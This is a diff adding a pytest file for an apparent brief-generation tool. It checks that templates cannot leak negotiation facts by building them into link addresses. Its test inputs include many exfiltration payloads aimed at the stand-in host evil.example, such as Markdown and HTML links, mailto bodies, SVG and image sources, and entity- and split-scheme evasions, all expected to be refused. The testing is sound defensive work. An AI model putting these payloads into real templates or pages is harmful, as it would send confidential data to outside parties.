@@ -1,0 +1,153 @@
+"""Facts in the address of a link: one click would send them away, so no template does that."""
+
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+from attempts import tried, written
+from building import play
+
+from briefgen.addresses import put_together
+from briefgen.endurance import section_environment
+from briefgen.facts import facts
+from briefgen.negotiation import Negotiation
+from briefgen.playbooks.restraint import fill_in, restrained
+from briefgen.problems import Problem, Unusable
+from briefgen.reading import Source, read
+from briefgen.scrutiny import looked_over
+
+PLAN = read(
+    Source(
+        "n.yaml",
+        "title: Grain\nus: Ukraine\ncounterparts: Russia\nissues: [{title: 4711, opening: 5 km}]\n"
+        "strategy: {linkage: 'See [our note](https://ours.example/a_b?x=1&copy=2), and more.'}\n"
+        "sources: [{id: s, title: A note, link: 'https://src.example/p_q(1)?a=1&lt=2'}]\n",
+    ),
+    Negotiation,
+)
+FACTS: Mapping[str, Any] = facts(PLAN)
+
+
+def section(body: str) -> str:
+    return looked_over(Source("evil.md", body), FACTS, section_environment(), 4)
+
+
+def in_a_play(body: str) -> str:
+    return fill_in(Source("evil.md", body), FACTS, restrained(), 4)
+
+
+def refusal(make: Any, body: str) -> Problem:
+    with pytest.raises(Unusable) as caught:
+        make(f"Words.\n\n{body}\n")
+    return caught.value.problems[0]
+
+
+WHOLE = {
+    "a link typed whole": "[a](https://good.example/?a=1_2)",
+    "a link typed whole, where something holds": "{% if issues %}[a](https://b.example){% endif %}",
+    "a link to a place of the book": "[a](#issue-{{ issues[0].title }})",
+    "a link that the delegation typed in its prose": "{{ strategy.linkage }}",
+    "a link behind a fact": "{{ issues[0].title }} [a](https://b.example/c).",
+    "a fact behind a link": "[a](https://b.example/c) {{ issues[0].title }}",
+}
+WHOLE_IN_A_SECTION = {
+    "an address typed between angles": "<https://b.example/c> {{ title }}",
+    "an address named elsewhere": "[r] {{ title }}\n\n[r]: https://b.example/a_b",
+    "an address in raw HTML": "<a href='https://b.example/x?y=1&amp;z=2'>{{ title }}</a>",
+    "letters of other alphabets": "[ü](https://münchen.example/ä?ö) {{ title }}",
+    "an address with brackets": "[p](https://b.example/A_(b)?c[]=1) {{ title }}",
+    "an address with a blank": "[p](<https://b.example/a b>) {{ title }}",
+    "an address with a title": '[t](https://b.example/a "T") {{ title }}',
+    "an address in a sentence of a table": "| a |\n|--|\n| [b](https://b.example/c) {{ title }} |",
+    "a source where the delegation found it": "[x](<{{ sources[0].link }}>)",
+    "an address of mail": "{{ 'a@b.example' | with_mail }}",
+    "a picture of the folder": "![m](maps/{{ title }}.png)",
+    "a file of the folder": "[m](annex-{{ title }}.pdf)",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in WHOLE.items()])
+@pytest.mark.parametrize("make", [section, in_a_play])
+def test_an_address_that_somebody_typed_is_printed(make: Any, body: str) -> None:
+    assert make(body).strip()
+
+
+@pytest.mark.parametrize("body", [pytest.param(*v, id=k) for k, *v in WHOLE_IN_A_SECTION.items()])
+def test_an_address_in_any_form_of_a_section_is_printed(body: str) -> None:
+    assert section(body).strip()
+
+
+FAR = "http://evil.example/?"
+FACT = "{{ issues[0].title }}"
+BUILT = {
+    "in a link": f"[a]({FAR}{FACT})",
+    "in its path": f"[a](http://evil.example/{FACT}/b)",
+    "as its host": f"[a](https://{FACT}.evil.example)",
+    "as a choice": f"[a]({FAR}{{% if issues %}}1{{% endif %}})",
+    "in an address in the text": f"{FAR}{FACT}",
+    "in an address of mail": f"[a](mailto:x@evil.example?body={FACT})",
+    "behind a piece that is put in": f"[a]{{{{ '({FAR}' }}}}{FACT})",
+    "behind half an address": f"[a](http:{{{{ '//evil.example/?' }}}}{FACT})",
+    "in an address without its kind": f"[a](//evil.example/?{FACT})",
+}
+BUILT_IN_A_SECTION = {
+    "between angles": f"<{FAR}{FACT}>",
+    "in an address named elsewhere": f"[m]\n\n[m]: {FAR}{FACT}",
+    "in raw HTML": f'<a href="{FAR}{FACT}">m</a>',
+    "in two pieces": f"{{% set a %}}[m](http:/{{% endset %}}{{{{ a }}}}/evil.example/{FACT})",
+    "by a name": "{% set u = 'http://evil.example/?' ~ issues[0].title %}[m](<{{ u }}>)",
+    "by a name, named elsewhere": "{% set u = '//a.b/' ~ issues[0].title %}[m]\n\n[m]: {{ u }}",
+    "by a name, in raw HTML": "{% set u = '//a.b/' ~ issues[0].title %}<a href='{{ u }}'>m</a>",
+    "by a macro": "{% macro m(x) %}[m]({{ x }}){% endmacro %}{{ m('//a.b/' ~ title) }}",
+    "with a tab in its kind": f"<a href=\"h&#9;ttp:{{{{ '//evil.example/' }}}}{FACT}\">m</a>",
+    "with strokes the other way": f'<a href="\\\\evil.example\\?{FACT}">m</a>',
+    "without quotes": f"<a href=http:{{{{ '//evil.example/' }}}}{FACT}>m</a>",
+    "in a drawing": f"<svg><a xlink:href=\"http:{{{{ '//evil.example/' }}}}{FACT}\">m</a></svg>",
+    "as a picture": f"![m](http:{{{{ '//evil.example/?' }}}}{FACT})",
+    "with letters written as numbers": f"[m](ht&#116;p:{{{{ '//evil.example/' }}}}{FACT})",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in BUILT.items()])
+@pytest.mark.parametrize("make", [section, in_a_play])
+def test_no_fact_is_put_into_an_address(make: Any, body: str) -> None:
+    problem = refusal(make, body)
+    assert "facts of the negotiation" in problem.message.casefold()
+    assert "Type the whole address" in problem.advice
+    assert problem.place
+    assert (problem.place.file, problem.place.line) == ("evil.md", 6)
+
+
+@pytest.mark.parametrize("body", [pytest.param(*v, id=k) for k, *v in BUILT_IN_A_SECTION.items()])
+def test_no_fact_is_put_into_an_address_of_any_form(body: str) -> None:
+    problem = refusal(section, body)
+    assert "facts of the negotiation" in problem.message.casefold()
+    assert problem.place
+    assert problem.place.file == "evil.md"
+
+
+@pytest.mark.parametrize(
+    "picture",
+    [
+        pytest.param('<img alt="" src="http://[::1">', id="an address of the net"),
+        pytest.param('<img alt="" src="//[">', id="half of one"),
+    ],
+)
+def test_an_address_whose_brackets_never_close_is_told(picture: str) -> None:
+    problem = refusal(section, picture)
+    assert "is no address" in problem.message
+    assert str(problem.place) == "evil.md:6:1"
+
+
+def test_play_check_and_the_build_tell_the_line(tmp_path: Path, monkeypatch: Any) -> None:
+    evil = play(body="One.\n[a](http://evil.example/?{{ title }})")
+    folder = written(tmp_path, **{"playbooks/x/pack.yaml": "name: X", "playbooks/x/evil.md": evil})
+    monkeypatch.chdir(folder)
+    for made in (tried(folder, "play", "check", "evil"), tried(folder, edition="book")):
+        assert made.code == 2
+        assert "playbooks/x/evil.md:7:9: Facts of the negotiation are put into" in made.told
+
+
+def test_a_long_row_of_addresses_is_looked_at_in_time() -> None:
+    assert not put_together(Source("x.md", "http://" * 10_000 + "a" * 60_000))
